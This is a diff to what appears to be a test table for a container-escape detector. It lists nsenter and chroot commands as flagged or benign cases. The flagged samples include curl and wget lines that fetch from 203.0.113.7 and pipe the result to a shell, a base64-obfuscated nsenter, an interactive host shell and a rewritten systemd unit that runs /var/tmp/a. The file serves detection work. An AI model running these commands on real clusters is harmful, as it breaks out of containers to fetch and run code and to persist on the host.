@@ -19,6 +19,12 @@ indicatorTable(commandHostEntry, {
     'namespaces by their paths': runs('nsenter', '--mount=/proc/1/ns/mnt', '--', 'bash'),
     'nsenter that downloads': script('nsenter -t 1 -m -- curl -so /usr/local/bin/a http://203.0.113.7/a'),
     'nsenter that makes a unit stay': script("nsenter -t 1 -m -- sh -c 'systemctl enable --now agent'"),
+    'a unit of its own beside one of the distribution': script(
+      "nsenter -t 1 -m -- sh -c 'systemctl enable --now iscsid agentd'",
+    ),
+    'a unit of the distribution that it has written': script(
+      'nsenter -t 1 -m -- sh -c \'echo "[Service]\nExecStart=/var/tmp/a" > /etc/systemd/system/iscsid.service; systemctl enable iscsid\'',
+    ),
     'a chroot to where the root is mounted': scriptOn('/', 'chroot /host'),
     'the same at an unusual place': elsewhere('chroot /x /bin/bash'),
     'the same through a variable': elsewhere('chroot "$ROOT" bash'),
@@ -27,6 +33,11 @@ indicatorTable(commandHostEntry, {
     'a chroot where the body was cut before the volumes': script('chroot /host /bin/sh'),
     'behind a shell and wrappers': script("sudo env A=b nsenter -t 1 -a bash -c 'wget -qO- http://203.0.113.7/a | sh'"),
     'a word that is decoded': script(`$(echo ${btoa('nsenter')} | base64 -d) -t 1 -m -- bash`),
+    'a file that says who was on the node': script("nsenter -t 1 -m -u -- sh -c 'id > /var/tmp/was-here'"),
+    'the same where the root is mounted': scriptOn(
+      '/',
+      "chroot /host sh -c 'whoami >> /root/proof.txt; id >> /root/proof.txt'",
+    ),
     'words in a list of code': runs('python3', '-c', 'import os; os.execvp("nsenter", ["nsenter", "-t", "1", "bash"])'),
     'a shell started from a shell': script("nsenter -t 1 -m -- sh -c 'cd /; bash -i'"),
   },
@@ -38,6 +49,13 @@ indicatorTable(commandHostEntry, {
       'chroot /host systemd-run --wait --unit upgrade apt-get upgrade -y',
     ),
     'named commands in a shell': script("nsenter -t 1 -m -- sh -c 'systemctl restart kubelet && journalctl -n 5'"),
+    'who runs there, told to the log alone': script('nsenter -t 1 -m -- id'),
+    'a log of maintenance that says who ran it': script(
+      "nsenter -t 1 -m -- sh -c 'id > /var/log/tuning.log; sysctl -p >> /var/log/tuning.log'",
+    ),
+    'a client for volumes, from the packages of the distribution': script(
+      "nsenter --mount=/proc/1/ns/mnt -- sh -c 'apt-get install -qy open-iscsi && systemctl -q enable iscsid.service && systemctl start iscsid'",
+    ),
     'a backup of etcd': scriptOn('/', 'chroot /host /usr/local/bin/cluster-backup.sh /home/core/backup'),
     'nsenter into another process': script('nsenter -t 4711 -n ss -tlnp'),
     'a chroot into a tree of its own': script('chroot /build/rootfs /bin/sh -c "apk add curl"'),
